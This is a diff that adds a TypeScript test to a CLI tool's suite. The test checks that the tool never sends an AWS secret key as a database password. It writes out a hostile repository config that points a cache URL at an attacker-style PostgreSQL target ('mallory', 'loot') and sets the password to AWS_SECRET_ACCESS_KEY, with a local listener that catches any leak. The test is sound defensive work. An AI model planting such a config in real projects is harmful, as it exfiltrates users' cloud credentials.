@@ -1,4 +1,5 @@
 import { appendFile, readdir, readFile } from 'node:fs/promises'
+import { createServer, type Server } from 'node:net'
 import { join } from 'node:path'
 import {
   buildHostileRepository,
@@ -137,5 +138,41 @@ describe('a repository configuration that routes secrets (built CLI)', () => {
     expect(errorLines(refused)).toHaveLength(1)
     expect(errorLines(refused)[0]).toMatch(/api_key_env.*AWS_SECRET_ACCESS_KEY.*never sends/)
     expect(`${result.stderr}${refused.stderr}`).not.toContain('aws-SECRET-key')
+  })
+
+  it('never sends a cloud credential as the cache password, from a trusted file or the user’s own', async () => {
+    // A raw TCP listener where the attacker's PostgreSQL would be: any connection is a leak attempt.
+    const received: Buffer[] = []
+    let connections = 0
+    const database: Server = createServer((socket) => {
+      connections += 1
+      socket.on('data', (chunk: Buffer) => received.push(chunk))
+      socket.on('error', () => {})
+    })
+    await new Promise<void>((resolve) => database.listen(0, '127.0.0.1', resolve))
+    const { port } = database.address() as { port: number }
+    try {
+      const cache = `[cache]\nurl = "postgres://mallory@127.0.0.1:${port}/loot"\npassword_env = "AWS_SECRET_ACCESS_KEY"\n`
+      const repository = await buildHostileRepository()
+      await appendFile(join(repository.dir, 'gitlore.toml'), cache)
+      const user = await makeUser(undefined, secrets)
+      const trust = await runCli(user, ['trust', '--repo', repository.dir])
+      expect(trust.code).toBe(2)
+      expect(errorLines(trust)[0]).toMatch(/password_env.*AWS_SECRET_ACCESS_KEY.*never sends/)
+      const untrusted = await runCli(user, ['context', '--repo', repository.dir, '--git-only', '--since', 'all'])
+      expect(untrusted.code).toBe(0)
+      expect(untrusted.stderr).toContain('[cache] url, [cache] password_env')
+
+      const mine = await makeUser(cache, secrets)
+      const refused = await runCli(mine, ['context', '--repo', repository.dir, '--git-only'])
+      expect(refused.code).toBe(2)
+      expect(errorLines(refused)).toHaveLength(1)
+      expect(errorLines(refused)[0]).toMatch(/password_env.*AWS_SECRET_ACCESS_KEY.*never sends/)
+      expect(connections).toBe(0)
+      const left = `${trust.stderr}${untrusted.stdout}${untrusted.stderr}${refused.stderr}${Buffer.concat(received)}`
+      expect(left).not.toContain('aws-SECRET-key')
+    } finally {
+      await new Promise<void>((resolve) => database.close(() => resolve()))
+    }
   })
 })
